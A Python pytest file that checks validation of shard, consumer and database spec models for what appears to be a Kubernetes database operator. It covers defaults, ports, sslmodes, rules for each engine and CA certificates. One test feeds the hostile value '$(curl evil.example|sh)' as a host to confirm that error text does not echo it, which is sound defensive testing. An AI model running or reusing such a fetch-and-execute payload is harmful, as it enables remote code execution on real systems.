"""Shard, Consumer and Database specs: defaults, ranges, engine-specific references, error paths."""

from __future__ import annotations

import re
from typing import Any

import pytest
from pydantic import ValidationError

from domain.constants import Engine, MoveMode, SslMode
from domain.specs import SHARD_CEL_RULES, SSLMODES, ConsumerSpec, DatabaseSpec, ShardSpec, parse_database_move
from domain.validation import format_validation_error, validation_problems
from tests.vectors import objects as vectors
from tests.vectors.objects import CLOUDBERRY_SPEC, SHARD_SPEC, with_changes

POSTGRES_SHARD = SHARD_SPEC
CLOUDBERRY_SHARD = CLOUDBERRY_SPEC


def problems_of(model: type, data: dict[str, Any]) -> dict[str, str]:
    with pytest.raises(ValidationError) as excinfo:
        model.model_validate(data)
    return dict(validation_problems(excinfo.value))


# --- Shard -----------------------------------------------------------------------------------------------


def test_postgres_shard_defaults() -> None:
    shard = ShardSpec.model_validate(POSTGRES_SHARD)
    assert shard.engine is Engine.POSTGRES
    assert shard.accepting is True
    assert shard.max_databases == 200
    assert shard.admin.port == 5432 and shard.client.port == 5432
    assert shard.admin.sslmode is SslMode.REQUIRE and shard.client.sslmode == "require"
    assert shard.admin.secret_ref.user_key == "user"
    assert shard.admin.secret_ref.password_key == "password"
    assert shard.keldon_cluster is None
    assert shard.cluster == shard.percona_cluster
    assert shard.admin_host == "pg-shard01-primary.databases.svc"


def test_seed_example_parses_by_alias_and_dumps_back() -> None:
    seed = with_changes(
        POSTGRES_SHARD,
        engine="postgres",
        accepting=True,
        drain=False,
        drainMoves=2,
        admin__port=5432,
        admin__sslmode="require",
        admin__secretRef__userKey="user",
        admin__secretRef__passwordKey="password",
        client__port=5432,
        client__sslmode="require",
    )
    shard = ShardSpec.model_validate(seed)
    dumped = shard.model_dump(by_alias=True, mode="json", exclude_none=True)
    assert dumped == seed
    assert ShardSpec.model_validate(dumped) == shard


def test_parsing_by_python_names_works_too() -> None:
    shard = ShardSpec(
        max_databases=1,
        percona_cluster={"namespace": "db", "name": "pg"},
        admin={"service_name": "pg-primary", "secret_ref": {"namespace": "db", "name": "s"}},
        client={"host": "pg.example"},
    )
    assert shard.admin_host == "pg-primary.db.svc"


def test_cloudberry_shard_defaults_admin_service_to_the_cluster_name() -> None:
    shard = ShardSpec.model_validate(CLOUDBERRY_SHARD)
    assert shard.engine is Engine.CLOUDBERRY
    assert shard.percona_cluster is None
    assert shard.admin.service_name == "cluster-demo"
    assert shard.admin_service_name == "cluster-demo"
    assert shard.admin_host == "cluster-demo.analytics.svc"
    assert shard.client.port == 6432


def test_cloudberry_explicit_admin_service_is_kept() -> None:
    shard = ShardSpec.model_validate(with_changes(CLOUDBERRY_SHARD, admin__serviceName="cb-coordinator"))
    assert shard.admin_host == "cb-coordinator.analytics.svc"


def test_specs_are_frozen() -> None:
    shard = ShardSpec.model_validate(POSTGRES_SHARD)
    with pytest.raises(ValidationError):
        shard.accepting = False  # type: ignore[misc]
    with pytest.raises(ValidationError):
        shard.client.host = "other"  # type: ignore[misc]


def test_unknown_spec_fields_are_ignored() -> None:
    assert ShardSpec.model_validate(with_changes(POSTGRES_SHARD, futureField=1)).max_databases == 200


@pytest.mark.parametrize(
    ("value", "ok"),
    [
        (1, True),
        (2, True),
        (10_000, True),
        (0, False),
        (-1, False),
        ("5", False),
        (1.5, False),
        (True, False),
    ],
)
def test_shard_max_databases_at_least_one(value: object, ok: bool) -> None:
    data = with_changes(POSTGRES_SHARD, maxDatabases=value)
    if ok:
        assert ShardSpec.model_validate(data).max_databases == value
    else:
        assert "maxDatabases" in problems_of(ShardSpec, data)


def test_shard_max_databases_is_required() -> None:
    assert problems_of(ShardSpec, with_changes(POSTGRES_SHARD, maxDatabases=None)) == {"maxDatabases": "is required"}


@pytest.mark.parametrize("field", ["admin__port", "client__port"])
@pytest.mark.parametrize(
    ("port", "ok"),
    [(1, True), (5432, True), (65535, True), (0, False), (65536, False), (-1, False), ("5432", False)],
)
def test_ports(field: str, port: object, ok: bool) -> None:
    data = with_changes(POSTGRES_SHARD, **{field: port})
    path = field.replace("__", ".")
    if ok:
        shard = ShardSpec.model_validate(data)
        assert (shard.admin.port if field.startswith("admin") else shard.client.port) == port
    else:
        assert path in problems_of(ShardSpec, data)


def test_sslmodes_are_the_libpq_values() -> None:
    assert SSLMODES == ("disable", "allow", "prefer", "require", "verify-ca", "verify-full")


@pytest.mark.parametrize("field", ["admin__sslmode", "client__sslmode"])
@pytest.mark.parametrize("mode", SSLMODES)
def test_every_sslmode_is_accepted(field: str, mode: str) -> None:
    shard = ShardSpec.model_validate(with_changes(POSTGRES_SHARD, **{field: mode}))
    assert mode in (shard.admin.sslmode, shard.client.sslmode)


@pytest.mark.parametrize("field", ["admin__sslmode", "client__sslmode"])
@pytest.mark.parametrize("mode", ["", "REQUIRE", "verify_full", "on", "true", "sslmode=require", 1])
def test_unknown_sslmodes_are_refused(field: str, mode: object) -> None:
    assert field.replace("__", ".") in problems_of(ShardSpec, with_changes(POSTGRES_SHARD, **{field: mode}))


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"perconaCluster": None}, "perconaCluster is required when engine is postgres"),
        (
            {"keldonCluster": {"namespace": "a", "name": "b"}},
            "keldonCluster must not be set when engine is postgres",
        ),
        ({"admin__serviceName": None}, "admin.serviceName is required when engine is postgres"),
        ({"engine": "cloudberry"}, "keldonCluster is required when engine is cloudberry"),
        ({"engine": "cloudberry"}, "perconaCluster must not be set when engine is cloudberry"),
    ],
)
def test_engine_specific_cluster_references(changes: dict[str, Any], message: str) -> None:
    with pytest.raises(ValidationError) as excinfo:
        ShardSpec.model_validate(with_changes(POSTGRES_SHARD, **changes))
    assert message in format_validation_error(excinfo.value)


def test_cloudberry_with_both_references_is_refused() -> None:
    data = with_changes(CLOUDBERRY_SHARD, perconaCluster={"namespace": "db", "name": "pg"})
    with pytest.raises(ValidationError, match="perconaCluster must not be set when engine is cloudberry"):
        ShardSpec.model_validate(data)


@pytest.mark.parametrize("engine", ["", "Postgres", "mysql", "cloudberry ", None, 1])
def test_unknown_engine_is_refused(engine: object) -> None:
    assert "engine" in problems_of(ShardSpec, {**POSTGRES_SHARD, "engine": engine})


@pytest.mark.parametrize(
    ("field", "value", "path"),
    [
        ("perconaCluster__namespace", "Databases", "perconaCluster.namespace"),
        ("perconaCluster__namespace", "a.b", "perconaCluster.namespace"),
        ("perconaCluster__namespace", "x" * 64, "perconaCluster.namespace"),
        ("perconaCluster__name", "PG", "perconaCluster.name"),
        ("perconaCluster__name", "", "perconaCluster.name"),
        ("perconaCluster__name", "-pg", "perconaCluster.name"),
        ("admin__serviceName", "1-primary", "admin.serviceName"),
        ("admin__serviceName", "a.b", "admin.serviceName"),
        ("admin__secretRef__namespace", "", "admin.secretRef.namespace"),
        ("admin__secretRef__name", "a_b", "admin.secretRef.name"),
        ("admin__secretRef__userKey", "", "admin.secretRef.userKey"),
        ("admin__secretRef__passwordKey", "a/b", "admin.secretRef.passwordKey"),
        ("admin__secretRef__passwordKey", "..", "admin.secretRef.passwordKey"),
        ("client__host", "a;b", "client.host"),
        ("client__host", "::1", "client.host"),
        ("client__host", "256.1.1.1", "client.host"),
        ("client__host", "", "client.host"),
        ("client__host", None, "client.host"),
        ("accepting", "false", "accepting"),
        ("accepting", 0, "accepting"),
    ],
)
def test_field_errors_name_the_path(field: str, value: object, path: str) -> None:
    assert path in problems_of(ShardSpec, with_changes(POSTGRES_SHARD, **{field: value}))


def test_error_text_does_not_echo_hostile_input() -> None:
    hostile = "$(curl evil.example|sh)"
    with pytest.raises(ValidationError) as excinfo:
        ShardSpec.model_validate(with_changes(POSTGRES_SHARD, client__host=hostile))
    assert hostile not in str(excinfo.value)
    assert hostile not in format_validation_error(excinfo.value)
    assert format_validation_error(excinfo.value).startswith("client.host: invalid client host")


@pytest.mark.parametrize("name", ["a", "db", "pg.shard-01", "a" * 253, ".".join(["a" * 63] * 3) + "." + "a" * 61])
def test_object_names_accepted(name: str) -> None:
    assert ShardSpec.model_validate(with_changes(POSTGRES_SHARD, perconaCluster__name=name)).cluster.name == name


def test_json_schema_carries_the_cel_rules() -> None:
    schema = ShardSpec.model_json_schema(by_alias=True)
    rules = [r["rule"] for r in schema["x-kubernetes-validations"]]
    assert rules == [rule for rule, _ in SHARD_CEL_RULES]
    host = schema["$defs"]["ClientEndpoint"]["properties"]["host"]
    assert host["maxLength"] == 253
    assert "matches(" in host["x-kubernetes-validations"][0]["rule"]
    assert set(schema["required"]) == {"maxDatabases", "admin", "client"}
    assert schema["properties"]["maxDatabases"]["minimum"] == 1


# --- Consumer --------------------------------------------------------------------------------------------

CONSUMER: dict[str, Any] = {"tokenSecretRef": {"namespace": "databases", "name": "consumer-a-token"}}


def test_consumer_defaults() -> None:
    consumer = ConsumerSpec.model_validate(CONSUMER)
    assert consumer.token_secret_ref.key == "sha256"
    assert consumer.max_databases is None
    assert consumer.disabled is False


@pytest.mark.parametrize(("value", "ok"), [(0, True), (1, True), (50, True), (-1, False), ("5", False), (2.0, False)])
def test_consumer_max_databases(value: object, ok: bool) -> None:
    data = {**CONSUMER, "maxDatabases": value}
    if ok:
        assert ConsumerSpec.model_validate(data).max_databases == value
    else:
        assert "maxDatabases" in problems_of(ConsumerSpec, data)


def test_consumer_explicit_null_max_databases_is_unlimited() -> None:
    assert ConsumerSpec.model_validate({**CONSUMER, "maxDatabases": None}).max_databases is None


@pytest.mark.parametrize(
    ("data", "path"),
    [
        ({}, "tokenSecretRef"),
        ({"tokenSecretRef": {"name": "x"}}, "tokenSecretRef.namespace"),
        ({"tokenSecretRef": {"namespace": "db"}}, "tokenSecretRef.name"),
        ({"tokenSecretRef": {"namespace": "db", "name": "x", "key": ""}}, "tokenSecretRef.key"),
        ({**CONSUMER, "disabled": "yes"}, "disabled"),
    ],
)
def test_consumer_errors(data: dict[str, Any], path: str) -> None:
    assert path in problems_of(ConsumerSpec, data)


def test_consumer_disabled() -> None:
    assert ConsumerSpec.model_validate({**CONSUMER, "disabled": True}).disabled is True


# --- Database --------------------------------------------------------------------------------------------


def test_database_defaults() -> None:
    db = DatabaseSpec.model_validate({"consumer": "consumer-a", "externalId": "tenant-1"})
    assert db.size_class == ""
    assert db.engine is Engine.POSTGRES
    assert db.external_id == "tenant-1"


@pytest.mark.parametrize(
    ("data", "path"),
    [
        ({"externalId": "t"}, "consumer"),
        ({"consumer": "c"}, "externalId"),
        ({"consumer": "C", "externalId": "t"}, "consumer"),
        ({"consumer": "c", "externalId": "T"}, "externalId"),
        ({"consumer": "c", "externalId": "a.b"}, "externalId"),
        ({"consumer": "c", "externalId": "a_b"}, "externalId"),
        ({"consumer": "c", "externalId": "-a"}, "externalId"),
        ({"consumer": "c", "externalId": ""}, "externalId"),
        ({"consumer": "c", "externalId": "a" * 64}, "externalId"),
        ({"consumer": "c", "externalId": "t", "engine": "oracle"}, "engine"),
        ({"consumer": "c", "externalId": "t", "sizeClass": "x" * 64}, "sizeClass"),
        ({"consumer": "c", "externalId": "t", "sizeClass": None}, "sizeClass"),
    ],
)
def test_database_errors(data: dict[str, Any], path: str) -> None:
    problems = problems_of(DatabaseSpec, data)
    assert path in problems
    if path == "externalId" and "externalId" in data:
        assert re.search("DNS label", problems[path])


def test_database_cloudberry_and_size_class() -> None:
    db = DatabaseSpec.model_validate({"consumer": "c", "externalId": "t", "engine": "cloudberry", "sizeClass": "large"})
    assert db.engine is Engine.CLOUDBERRY and db.size_class == "large"


def test_a_database_move_defaults_to_auto_and_refuses_what_is_no_move() -> None:
    move = parse_database_move({"spec": {"database": "orders", "target": "any"}})
    assert (move.database, move.target, move.mode) == ("orders", "any", MoveMode.AUTO)
    assert not move.force and not move.abort
    bad_specs = [
        {"database": "orders"},
        {"database": "Orders!", "target": "pg-2"},
        {"database": "orders", "target": "pg-2", "mode": "Fast"},
    ]
    for bad in bad_specs:
        with pytest.raises(ValidationError):
            parse_database_move({"spec": bad})


@pytest.mark.parametrize(
    ("ca_cert", "problem"),
    [
        (vectors.CA_PEM, None),
        (vectors.CA_PEM + "\n" + vectors.CA_PEM, None),
        (vectors.CA_PEM + vectors.KEY_PEM, "must be PEM CA certificates only"),
        ("/etc/ssl/ca.crt", "must be PEM CA certificates only"),
        ("-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n", "not a valid X.509 certificate"),
    ],
)
def test_client_ca_cert_is_pem_certificates_only(ca_cert: str, problem: str | None) -> None:
    data = with_changes(SHARD_SPEC, client__caCert=ca_cert)
    if problem is None:
        assert ShardSpec.model_validate(data).client.ca_cert == ca_cert
    else:
        assert problem in problems_of(ShardSpec, data)["client.caCert"]
